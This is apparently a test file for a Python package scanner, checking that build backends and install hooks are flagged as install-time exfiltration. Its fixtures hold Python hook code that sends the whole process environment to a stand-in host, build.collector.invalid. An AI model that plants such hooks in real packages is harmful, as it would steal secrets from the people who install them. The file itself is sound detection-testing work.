// Build code other than setup.py runs at install time too: an in-tree PEP 517 backend, hatch/pdm hooks, poetry's build script.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { buildSdist } from '../../scripts/lib/build-dist.ts';
import { analyzeTarget, initAnalysis } from '../../src/analysis/api.ts';
import { openArchive } from '../../src/pypi/archive/index.ts';

const SEND_ENV =
  'import os, urllib.request\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    urllib.request.urlopen("https://build.collector.invalid/", data=repr(dict(os.environ)).encode())\n    return "x.whl"\n';

async function analyse(files: Record<string, string>) {
  await initAnalysis();
  const sdist = buildSdist({ name: 'hooked', version: '1.0', files });
  return analyzeTarget(await openArchive(sdist.bytes, sdist.filename), { kind: 'archive', filename: sdist.filename });
}

test('an in-tree PEP 517 backend is install-time code', async () => {
  const target = await analyse({
    'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
    '_build/backend.py': SEND_ENV,
    'hooked/__init__.py': 'VALUE = 1\n',
  });
  assert.ok(
    target.findings.some((f) => f.rule === 'build-hook' && /PEP 517 backend \(backend from _build\)/.test(f.message)),
  );
  const backend = target.files.find((f) => f.path.endsWith('_build/backend.py'))!;
  const flow = backend.findings.find((f) => f.rule === 'exfiltration')!;
  assert.equal(flow.trigger, 'install');
  assert.equal(flow.severity, 'critical');
  assert.equal(target.risk, 'critical');
});

test('a hatch build hook (custom path) runs at install time; the same code elsewhere runs when called', async () => {
  const target = await analyse({
    'pyproject.toml':
      '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[tool.hatch.build.hooks.custom]\npath = "tools/hook.py"\n',
    'tools/hook.py': SEND_ENV,
    'tools/other.py': SEND_ENV,
  });
  assert.ok(
    target.findings.some((f) => f.rule === 'build-hook' && /hatch build hook \(tools\/hook\.py\)/.test(f.message)),
  );
  const triggerOf = (name: string) =>
    target.files.find((f) => f.path.endsWith(name))!.findings.find((f) => f.rule === 'exfiltration')!.trigger;
  assert.equal(triggerOf('tools/hook.py'), 'install');
  assert.equal(triggerOf('tools/other.py'), 'call');
});

test("poetry's build script (either spelling) runs at install time", async () => {
  for (const table of [
    '[tool.poetry.build]\nscript = "build.py"\n',
    '[tool.poetry]\nname = "p"\nbuild = "build.py"\n',
  ]) {
    const target = await analyse({
      'pyproject.toml': `[build-system]\nrequires = ["poetry-core"]\nbuild-backend = "poetry.core.masonry.api"\n\n${table}`,
      'build.py': SEND_ENV,
    });
    assert.ok(
      target.findings.some((f) => f.rule === 'build-hook' && /poetry build script \(build\.py\)/.test(f.message)),
    );
    const flow = target.files
      .find((f) => f.path.endsWith('/build.py'))!
      .findings.find((f) => f.rule === 'exfiltration')!;
    assert.equal(flow.trigger, 'install');
  }
});

test('setuptools command classes named in pyproject.toml or setup.cfg run at install time', async () => {
  const HOOK =
    'import os, urllib.request\nfrom setuptools.command.install import install\nclass Install(install):\n    def run(self):\n        urllib.request.urlopen("https://build.collector.invalid/", data=repr(dict(os.environ)).encode())\n';
  for (const [config, text] of [
    [
      'pyproject.toml',
      '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n\n[tool.setuptools.cmdclass]\ninstall = "hooked.hooks.Install"\n',
    ],
    [
      'setup.cfg',
      '[metadata]\nname = hooked\n\n[options]\npackages = find:\ncmdclass =\n    install = hooked.hooks.Install\n',
    ],
  ]) {
    const target = await analyse({ [config]: text, 'hooked/__init__.py': 'VALUE = 1\n', 'hooked/hooks.py': HOOK });
    assert.ok(
      target.findings.some(
        (f) => f.rule === 'build-hook' && /'install' command with hooked\.hooks\.Install/.test(f.message),
      ),
      config,
    );
    const flow = target.files
      .find((f) => f.path.endsWith('hooked/hooks.py'))
      ?.findings.find((f) => f.rule === 'exfiltration');
    assert.equal(flow?.trigger, 'install', config);
    assert.equal(target.risk, 'critical', config);
  }
});
